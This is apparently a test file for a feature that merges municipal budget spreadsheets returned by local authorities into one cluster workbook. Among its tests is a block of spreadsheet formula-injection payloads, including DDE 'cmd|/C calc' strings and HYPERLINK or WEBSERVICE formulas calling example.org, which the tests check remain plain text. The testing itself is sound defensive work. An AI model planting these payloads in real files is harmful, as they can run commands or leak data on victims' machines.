import type { CollectBook, CollectedFile, ReturnedFile, Snapshot } from '../../../../lib/index.js';
import { TABLES } from '../../../../lib/sheets/cluster-book/parts/all.js';
import { opened, written } from './cluster.js';
import {
  addRow,
  cellAt,
  collected,
  fill,
  fillAll,
  returnOf,
  say,
  send,
  tableOf,
  withCell,
  type Sent,
} from './support.js';

let sent: Sent;
beforeAll(async () => {
  sent = await send();
});

const file = (name: string, snapshot: Snapshot): ReturnedFile => ({ name, snapshot });
const codes = ({ reasons }: CollectedFile): readonly string[] => reasons.map(({ code }) => code);
const left = ({ left: list }: CollectedFile): readonly string[] => list.map(({ why }) => why.code);
const afterwards = async (book: CollectBook): Promise<Snapshot> => opened(await written(sent.bytes, book));

const quota = (snapshot: Snapshot, amount: number): Snapshot =>
  fill(sent, snapshot, { part: 'contributions', row: 0, column: 'inAuthority', cell: { value: amount } });

describe('what comes back', () => {
  it('becomes one book: fifteen returns, each with its quota and a contract of its own', async () => {
    const files = [...sent.returned].map(([name, snapshot], at) =>
      file(
        `${String(at)}.xlsx`,
        addRow(sent, quota(snapshot, 41_000 + at), 'contracts', {
          name: { value: `חוזה ${name}` },
          supplier: { value: 'ספק' },
          amount: { value: 1000.25 + at },
        }),
      ),
    );
    const book = collected(sent, files);
    expect(book.files.map(({ outcome }) => outcome)).toEqual(files.map(() => 'taken'));
    expect(book.conflicts).toEqual([]);
    const after = await afterwards(book);
    const quotas = tableOf(sent, after, 'contributions').rows.map(
      ({ cells }) => cells.get('inAuthority')?.cell?.value,
    );
    expect(quotas).toEqual(files.map((_, at) => 41_000 + at));
    const contracts = after.sheets
      .filter(({ name }) => name.startsWith('חוזים'))
      .flatMap((sheet) => tableOf(sent, { sheets: [sheet] }, 'contracts').rows);
    expect(contracts).toHaveLength(2 + 15);
    expect(contracts.slice(2).map(({ authority }) => authority)).toEqual([...sent.returned.keys()]);
    expect(contracts.slice(2).map(({ cells }) => cells.get('amount')?.value)).toEqual(
      files.map((_, at) => ({ kind: 'amount', nis: String(1000.25 + at) })),
    );
    // Ten rows were empty; for the others a sheet of the same kind was made.
    expect(book.added).toEqual(['חוזים (2)']);
    expect(book.log).toBe('יומן איסוף');
  });

  it('changes nothing where nothing was filled in', () => {
    const files = [...sent.returned].map(([name, snapshot]) => file(name, snapshot));
    const book = collected(sent, files);
    expect(book.changes).toEqual([]);
    // Only what it remembers: which books came.
    expect(book.plan.steps.map((step) => step.do)).toEqual(['add-sheet', 'write']);
  });

  it('is collected again without a word, and a filled one twice is one', async () => {
    const one = quota(returnOf(sent, 'טירה'), 7);
    const book = collected(sent, [file('a.xlsx', one), file('b.xlsx', one)]);
    expect(book.files.map(({ outcome }) => outcome)).toEqual(['taken', 'passed']);
    expect(book.files.flatMap(codes)).toEqual(['collect-duplicate']);
    const again = collected({ ...sent, base: await afterwards(book) }, [file('c.xlsx', one)]);
    expect(again.plan.steps).toEqual([]);
    expect(again.files.map((each) => [each.outcome, ...codes(each)])).toEqual([['passed', 'collect-again']]);
  });

  it('takes partial returns one after the other', async () => {
    const issued = returnOf(sent, 'טירה');
    const first = collected(sent, [file('1.xlsx', quota(issued, 7))]);
    const agreed = fill(sent, issued, {
      part: 'agreements',
      row: 0,
      column: 'to',
      cell: { value: '31.12.2028' },
    });
    const partial: Snapshot = { sheets: agreed.sheets.filter(({ name }) => name !== 'חוזים') };
    const second = collected({ ...sent, base: await afterwards(first) }, [file('2.xlsx', partial)]);
    expect(second.files[0]?.outcome).toBe('taken');
    expect(second.changes.map(({ part, before, after }) => [part, before, after])).toEqual([
      ['agreements', '', '2028-12-31'],
    ]);
  });

  it('goes by what is in a file, and says why each of the others is refused', async () => {
    const newer = await send({ edition: 2 });
    const others = await send({ cluster: 'אשכול הגליל המערבי' });
    const swapped = tableOf(sent, returnOf(sent, 'קלנסווה'), 'contributions');
    const wrong = ['contributions', 'agreements', 'council'].reduce(
      (book, part) => fill(sent, book, { part, row: 0, column: 'authority', cell: { value: 'כפר ברא' } }),
      withCell(returnOf(sent, 'קלנסווה'), 'חברות האשכול', 5, 0, { value: 'כפר ברא' }),
    );
    expect(swapped.rows).toHaveLength(1);
    const book = collected(sent, [
      file('my budget (3).xlsx', quota(returnOf(sent, 'טייבה'), 5)),
      file('טייבה.xlsx', wrong),
      file('old.xlsx', quota(returnOf(sent, 'כפר סבא'), 1)),
      file('new.xlsx', quota(returnOf(newer, 'כפר סבא'), 2)),
      file('galilee.xlsx', returnOf(others, 'תל מונד')),
      { name: 'broken.xlsx', problems: [{ code: 'file-damaged', facts: { part: 'none' } }] },
      file('photos.xlsx', {
        sheets: [{ name: 'x', rtl: false, visibility: 'visible', rows: [], merges: [] }],
      }),
    ]);
    expect(book.files.map((each) => [each.name, each.authority, each.outcome, ...codes(each)])).toEqual([
      ['my budget (3).xlsx', 'טייבה', 'taken'],
      ['טייבה.xlsx', undefined, 'refused', 'collect-wrong-authority'],
      ['old.xlsx', 'כפר סבא', 'refused', 'collect-edition-older'],
      ['new.xlsx', 'כפר סבא', 'taken'],
      ['galilee.xlsx', undefined, 'refused', 'collect-another-cluster'],
      ['broken.xlsx', undefined, 'refused', 'file-damaged'],
      ['photos.xlsx', undefined, 'refused', 'collect-nothing-recognised'],
    ]);
    expect(book.changes.map(({ files, after }) => [...files, after])).toEqual([
      ['new.xlsx', '2'],
      ['my budget (3).xlsx', '5'],
    ]);
  });

  it('refuses books that never went out, and older ones than those that did', async () => {
    const { steps } = sent.rooms.planIssued(sent.base.sheets, '2026-11-01' as never, sent.books);
    const base = await opened(await written(sent.bytes, { plan: { steps } }));
    const strange = await send({ id: () => 'another', edition: 1 });
    const [own] = collected({ ...sent, base }, [file('a', returnOf(sent, 'טירה'))]).files;
    const [other] = collected({ ...sent, base }, [file('a', returnOf(strange, 'טירה'))]).files;
    expect(own?.outcome).toBe('taken');
    expect(other && [other.outcome, ...codes(other)]).toEqual(['refused', 'collect-ticket-unknown']);
    expect(sent.rooms.nextEdition(base.sheets)).toBe(2);
  });
});

describe('text and formulas from others', () => {
  const TEXTS = [
    '=HYPERLINK("http://example.org/?q="&A1,"לחצו")',
    "+cmd|' /C calc'!A0",
    '-2+3+cmd|" /C calc"!A0',
    '@HYPERLINK("http://example.org")',
    '=[Other.xlsx]Sheet1!$A$1',
  ];

  it.each(TEXTS)('stays text in the book and in its log: %s', async (text) => {
    const back = addRow(sent, returnOf(sent, 'רעננה'), 'contracts', {
      name: { value: text },
      supplier: { value: text },
      note: { value: text },
    });
    const book = collected(sent, [file('a.xlsx', back)]);
    expect(book.files[0]?.outcome).toBe('taken');
    const after = await afterwards(book);
    const table = tableOf(sent, after, 'contracts');
    const row = table.rows.at(-1);
    for (const column of ['name', 'supplier', 'note']) {
      expect(row?.cells.get(column)?.cell).toEqual({ value: text, format: '@' });
    }
    const formulas = after.sheets
      .filter(({ name }) => name === book.log || name === table.sheet.name)
      .flatMap(({ rows }) => rows.flatMap((cells) => cells.flatMap((cell) => cell?.formula ?? [])));
    expect(formulas.every((formula) => formula.startsWith('=SUM('))).toBe(true);
  });

  it('says of a row that reads as none of the table that it was left', () => {
    const text = '@SUM(1+1)*cmd|" /C calc"!A0';
    const back = addRow(sent, returnOf(sent, 'רעננה'), 'contracts', { name: { value: text } });
    const [only] = collected(sent, [file('a', back)]).files;
    expect(only?.left.map(({ why }) => [why.code, why.facts['text'], why.place])).toEqual([
      ['collect-row-unread', text, `'חוזים'!A8`],
    ]);
  });

  it('asks about the result of a formula, and takes the result alone', () => {
    const back = fill(sent, returnOf(sent, 'טירה'), {
      part: 'contributions',
      row: 0,
      column: 'inAuthority',
      cell: { formula: '=WEBSERVICE("http://example.org")+41000', value: 41_000 },
    });
    const asked = collected(sent, [file('a.xlsx', back)]);
    expect(asked.files[0]?.outcome).toBe('waiting');
    expect(asked.changes).toEqual([]);
    const [conflict] = asked.conflicts;
    expect(conflict).toMatchObject({
      kind: 'formula',
      formula: '=WEBSERVICE("http://example.org")+41000',
      issued: '',
      now: '',
      options: [
        { id: 'keep', text: '', files: [] },
        { id: 'take-1', text: '41000', files: ['a.xlsx'] },
      ],
    });
    const taken = collected(sent, [file('a.xlsx', back)], { decisions: { [conflict?.id ?? '']: 'take-1' } });
    expect(taken.changes.map(({ after, how }) => [after, how])).toEqual([['41000', 'decided']]);
    const written = taken.plan.steps
      .filter((step) => step.do === 'write')
      .flatMap(({ cells }) => cells.flat());
    expect(written.some((cell) => cell && 'formula' in cell)).toBe(false);
  });

  it.each([
    ['+cmd|" /C calc"!A0', 'number-has-letters'],
    ['1,23', 'amount-decimal-comma'],
  ])('lists an amount that cannot be read, with its cell: %s', (text, code) => {
    const back = quota(returnOf(sent, 'טירה'), 0);
    const table = tableOf(sent, back, 'contributions');
    const column = table.columns.find(({ key }) => key === 'inAuthority')?.column ?? 0;
    const row = table.rows[0]?.row ?? 0;
    const bad = withCell(back, table.sheet.name, row, column, { value: text });
    const book = collected(sent, [file('a.xlsx', bad)]);
    expect(book.files[0]?.outcome).toBe('partly');
    expect(book.files[0]?.left.map(({ why }) => [why.code, why.place])).toEqual([
      [code, `'${table.sheet.name}'!C6`],
    ]);
    expect(book.changes).toEqual([]);
  });

  it.each(['__proto__', 'constructor', '<b>x</b>', '\u202etxt.exe', '_x0041_', 'a\u0000b', "'quoted"])(
    'takes %j as it is',
    (text) => {
      const back = addRow(sent, returnOf(sent, 'טירה'), 'contracts', {
        name: { value: text },
        amount: { value: 1 },
      });
      const [taken] = collected(sent, [file('a', back)]).files;
      expect(taken?.outcome).toBe('taken');
    },
  );
});

describe('what may not be changed', () => {
  it('is listed and not taken: the cluster’s own figure and the name of a row', () => {
    const back = fillAll(sent, returnOf(sent, 'רעננה'), [
      { part: 'contributions', row: 0, column: 'inCluster', cell: { value: 1 } },
      { part: 'contracts', row: 0, column: 'name', cell: { value: 'חוזה אחר' } },
    ]);
    const book = collected(sent, [file('a', back)]);
    expect(book.changes).toEqual([]);
    expect(
      book.files[0]?.left.map(({ why }) => [why.code, why.facts['text'], why.facts['expected']]),
    ).toEqual([
      ['collect-protected', '1', '41000'],
      ['collect-protected', 'חוזה אחר', 'חוזה 7/2026'],
    ]);
  });

  it('is a heading, too: its column is left, the others are taken', () => {
    const book = quota(returnOf(sent, 'טירה'), 9);
    const table = tableOf(sent, book, 'agreements');
    const [from, to] = ['from', 'to'].map((key) => table.columns.find((column) => column.key === key));
    const swapped = withCell(
      withCell(book, table.sheet.name, table.headings, from?.column ?? 0, { value: to?.heading ?? '' }),
      table.sheet.name,
      table.headings,
      to?.column ?? 0,
      { value: from?.heading ?? '' },
    );
    const after = collected(sent, [file('a', swapped)]);
    expect(after.files[0] && left(after.files[0])).toEqual([
      'collect-heading-changed',
      'collect-heading-changed',
    ]);
    expect(after.changes.map(({ part }) => part)).toEqual(['contributions']);
  });

  it('is a row of somebody else', () => {
    const back = addRow(sent, returnOf(sent, 'טירה'), 'contracts', {
      name: { value: 'חוזה 1' },
      authority: { value: 'כפר סבא' },
      amount: { value: 5 },
    });
    const book = collected(sent, [file('a', back)]);
    expect(book.changes).toEqual([]);
    expect(book.files[0] && left(book.files[0])).toEqual(['collect-another-row']);
  });

  it('is a second row where the cluster has one for each', () => {
    const back = addRow(sent, returnOf(sent, 'טירה'), 'contributions', {
      authority: { value: 'טירה' },
      inAuthority: { value: 5 },
    });
    const book = collected(sent, [file('a', back)]);
    expect(book.files[0] && left(book.files[0])).toEqual(['collect-row-not-expected']);
  });
});

describe('conflicts', () => {
  const baseWith = (amount: number): Snapshot => {
    const { sheet, rows, columns } = tableOf(sent, sent.base, 'contributions');
    const row = rows.find(({ authority }) => authority === 'טירה')?.row ?? 0;
    const column = columns.find(({ key }) => key === 'inAuthority')?.column ?? 0;
    return withCell(sent.base, sheet.name, row, column, { value: amount });
  };

  it('shows the three values where the cluster changed the same cell, and takes what is decided', () => {
    const base = baseWith(50);
    const files = [file('a', quota(returnOf(sent, 'טירה'), 60))];
    const asked = collected({ ...sent, base }, files);
    expect(asked.files[0]?.outcome).toBe('waiting');
    expect(asked.changes).toEqual([]);
    const [conflict] = asked.conflicts;
    expect(conflict).toMatchObject({ kind: 'base-changed', cell: 'C18', issued: '', now: '50' });
    expect(conflict?.options.map(({ id, text }) => [id, text])).toEqual([
      ['keep', '50'],
      ['take-1', '60'],
    ]);
    const decide = (choice: string) =>
      collected({ ...sent, base }, files, { decisions: { [conflict?.id ?? '']: choice } });
    expect(decide('take-1').changes.map(({ before, after }) => [before, after])).toEqual([['50', '60']]);
    expect(decide('keep').changes).toEqual([]);
    expect(decide('keep').files[0]?.outcome).toBe('taken');
  });

  it('is none where both say the same', () => {
    const book = collected({ ...sent, base: baseWith(60) }, [file('a', quota(returnOf(sent, 'טירה'), 60))]);
    expect([book.files[0]?.outcome, book.conflicts, book.changes]).toEqual(['taken', [], []]);
  });

  it('remembers a decision as long as what it led to stands there', async () => {
    const files = [
      file('a', quota(returnOf(sent, 'טירה'), 60)),
      file('b', quota(returnOf(sent, 'טירה'), 70)),
    ];
    const asked = collected(sent, files);
    const [conflict] = asked.conflicts;
    expect(conflict).toMatchObject({
      kind: 'returns-differ',
      options: [
        { id: 'keep', files: [] },
        { id: 'take-1', text: '60', files: ['a'] },
        { id: 'take-2', text: '70', files: ['b'] },
      ],
    });
    expect(asked.files.map(({ outcome }) => outcome)).toEqual(['waiting', 'waiting']);
    const decided = collected(sent, files, { decisions: { [conflict?.id ?? '']: 'take-2' } });
    expect(decided.changes.map(({ after, how }) => [after, how])).toEqual([['70', 'decided']]);
    const after = await afterwards(decided);
    // By another file of the same values, for these two were collected.
    const third = fill(sent, quota(returnOf(sent, 'טירה'), 60), {
      part: 'agreements',
      row: 0,
      column: 'note',
      cell: { value: 'x' },
    });
    expect(collected({ ...sent, base: after }, [file('c', third)]).conflicts).toEqual([]);
    const { sheet, rows, columns } = tableOf(sent, after, 'contributions');
    const row = rows.find(({ authority }) => authority === 'טירה')?.row ?? 0;
    const column = columns.find(({ key }) => key === 'inAuthority')?.column ?? 0;
    const changed = withCell(after, sheet.name, row, column, { value: 99 });
    expect(collected({ ...sent, base: changed }, [file('c', third)]).conflicts).toHaveLength(1);
  });

  it('asks about a row that is missing, and empties it only when told', async () => {
    const issued = returnOf(sent, 'רעננה');
    const table = tableOf(sent, issued, 'contracts');
    const row = table.rows[0]?.row ?? 0;
    const without: Snapshot = {
      sheets: issued.sheets.map((sheet) =>
        sheet.name === table.sheet.name
          ? { ...sheet, rows: sheet.rows.filter((_, at) => at !== row) }
          : sheet,
      ),
    };
    const asked = collected(sent, [file('a', without)]);
    expect(asked.conflicts).toMatchObject([{ kind: 'row-removed', row: 'חוזה 7/2026' }]);
    expect(asked.changes).toEqual([]);
    const id = asked.conflicts[0]?.id ?? '';
    const removed = collected(sent, [file('a', without)], { decisions: { [id]: 'remove' } });
    expect(removed.changes.every(({ how, after }) => how === 'removed' && after === '')).toBe(true);
    const after = await afterwards(removed);
    expect(tableOf(sent, after, 'contracts').rows.map(({ cells }) => cells.get('name')?.cell?.value)).toEqual(
      ['חוזה 8/2026'],
    );
  });

  it('asks about what was filled into a row that the cluster has taken out', async () => {
    const { sheet, rows, columns } = tableOf(sent, sent.base, 'contracts');
    const base = columns.reduce(
      (book, { column }) => withCell(book, sheet.name, rows[0]?.row ?? 0, column, { value: null }),
      sent.base,
    );
    const back = fill(sent, returnOf(sent, 'רעננה'), {
      part: 'contracts',
      row: 0,
      column: 'amount',
      cell: { value: 3 },
    });
    const asked = collected({ ...sent, base }, [file('a', back)]);
    expect(asked.conflicts.map(({ kind, options }) => [kind, options.map(({ id }) => id)])).toEqual([
      ['row-gone', ['keep', 'add']],
    ]);
    const id = asked.conflicts[0]?.id ?? '';
    const added = collected({ ...sent, base }, [file('a', back)], { decisions: { [id]: 'add' } });
    expect(added.changes.map(({ after }) => after)).toEqual(expect.arrayContaining(['חוזה 7/2026', '3']));
  });

  it.each([
    [{ nothing: 'keep' }, 'collect-decision-unknown'],
    [{ real: 'perhaps' }, 'collect-choice-unknown'],
  ])('refuses decisions about nothing: %j', (wanted, code) => {
    const base = baseWith(50);
    const files = [file('a', quota(returnOf(sent, 'טירה'), 60))];
    const id = collected({ ...sent, base }, files).conflicts[0]?.id ?? '';
    const decisions = Object.fromEntries(
      Object.entries(wanted).map(([key, choice]) => [key === 'real' ? id : key, choice]),
    );
    const { registry, rooms } = sent;
    const refused = rooms.collect({
      base: base.sheets,
      files,
      on: '2026-11-22' as never,
      registry,
      language: 'he',
      say,
      decisions,
    });
    expect(refused.ok || refused.problems[0].code).toBe(code);
  });
});

describe('a file without our record', () => {
  const bare = (snapshot: Snapshot): Snapshot => ({
    sheets: snapshot.sheets.filter(({ name }) => name !== '_eshkol'),
  });

  it('is known by its cells; blanks are filled, and what differs is asked', () => {
    const back = fillAll(sent, bare(returnOf(sent, 'הוד השרון')), [
      { part: 'contributions', row: 0, column: 'inAuthority', cell: { value: 42_000 } },
      { part: 'agreements', row: 0, column: 'participation', cell: { value: 1 } },
    ]);
    const book = collected(sent, [file('a', back)]);
    expect(book.files[0]).toMatchObject({ authority: 'הוד השרון', outcome: 'waiting' });
    expect(book.files[0] && codes(book.files[0])).toEqual(['collect-no-ticket']);
    expect(book.changes.map(({ after }) => after)).toEqual(['42000']);
    expect(book.conflicts.map(({ kind, now, options }) => [kind, now, options[1]?.text])).toEqual([
      ['base-changed', '12002.5', '1'],
    ]);
  });

  it('is refused where it names nobody, or several', () => {
    const [nobody] = collected(sent, [
      file(
        'a',
        ['contributions', 'agreements', 'council'].reduce(
          (book, part) => fill(sent, book, { part, row: 0, column: 'authority', cell: { value: null } }),
          withCell(
            withCell(bare(returnOf(sent, 'טירה')), 'חברות האשכול', 5, 0, { value: null }),
            'חברות האשכול',
            5,
            1,
            { value: null },
          ),
        ),
      ),
    ]).files;
    expect(nobody && codes(nobody)).toEqual(['collect-authority-unknown']);
    const [several] = collected(sent, [file('a', sent.base)]).files;
    expect(several && codes(several)).toEqual(['collect-authorities-several']);
  });
});

it('writes into the unit and the words of the cluster’s own table', async () => {
  const { sheet, headings, columns } = tableOf(sent, sent.base, 'contributions');
  const money = columns.filter(({ money: own }) => own);
  const base = money.reduce(
    (book, { column, heading }) =>
      withCell(book, sheet.name, headings, column, { value: heading.replace('₪', 'אלפי ₪') }),
    withCell(sent.base, sheet.name, 1, 0, { value: '' }),
  );
  const senior = TABLES.council.fields
    .find(({ id }) => id === 'role')
    ?.choices?.find(({ value }) => value === 'senior')?.words;
  const asked = { ...sent, base };
  const planned = sent.rooms.planReturns({
    sheets: base.sheets,
    registry: sent.registry,
    issued: '2026-11-01' as never,
    edition: 1,
    id: ({ id }) => id,
    members: ({ name }) => name === 'טייבה',
    language: () => 'ar',
  });
  const [book] = planned.ok ? planned.value : [];
  const back = fillAll(sent, await opened(await written(null, book ?? { plan: { steps: [] } })), [
    { part: 'contributions', row: 0, column: 'inAuthority', cell: { value: 41_500 } },
    { part: 'council', row: 0, column: 'role', cell: { value: senior?.ar ?? '' } },
  ]);
  const found = collected(asked, [file('a', back)]);
  const values = found.changes.map(({ sheet: name, cell }) => {
    const step = found.plan.steps.find(
      (each) =>
        each.do === 'write' &&
        each.sheet === name &&
        `${String.fromCharCode(65 + each.left)}${String(each.top + 1)}` === cell,
    );
    return step?.do === 'write' ? step.cells[0]?.[0] : undefined;
  });
  expect(values).toMatchObject([{ value: 41.5 }, { value: senior?.he }]);
  expect(cellAt(base, sheet.name, headings, money[0]?.column ?? 0)?.value).toContain('אלפי');
});
